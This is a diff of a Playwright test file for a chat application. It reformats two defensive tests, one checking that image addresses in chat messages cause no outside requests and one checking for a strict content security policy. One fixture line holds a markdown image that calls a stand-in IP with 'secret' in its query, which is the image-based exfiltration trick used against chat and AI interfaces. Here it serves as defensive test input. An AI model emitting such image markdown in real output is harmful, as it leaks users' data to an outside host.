@@ -5,7 +5,10 @@ import { patientModel } from '../support/patientModel.ts'
 const remotePicture = '![secret](http://203.0.113.7/?q=secret)'
 
 test('a picture address in a question or an answer makes no request outside of the app', async ({ chat }) => {
-  const own = new Set([new URL(chat.page.url()).origin, new URL(chat.page.url()).origin.replace('sightline', 'attachment')])
+  const own = new Set([
+    new URL(chat.page.url()).origin,
+    new URL(chat.page.url()).origin.replace('sightline', 'attachment'),
+  ])
   const foreign: string[] = []
   chat.page.on('request', (request) => {
     const { protocol, origin } = new URL(request.url())
@@ -23,7 +26,9 @@ test('a picture address in a question or an answer makes no request outside of t
   expect(foreign).toEqual([])
 })
 
-test('the page comes with a policy that lets it load its own files only, and script text does not run', async ({ chat }) => {
+test('the page comes with a policy that lets it load its own files only, and script text does not run', async ({
+  chat,
+}) => {
   const response = await chat.page.reload()
   const policy = response?.headers()['content-security-policy'] ?? ''
   expect(policy).toContain("default-src 'none'")
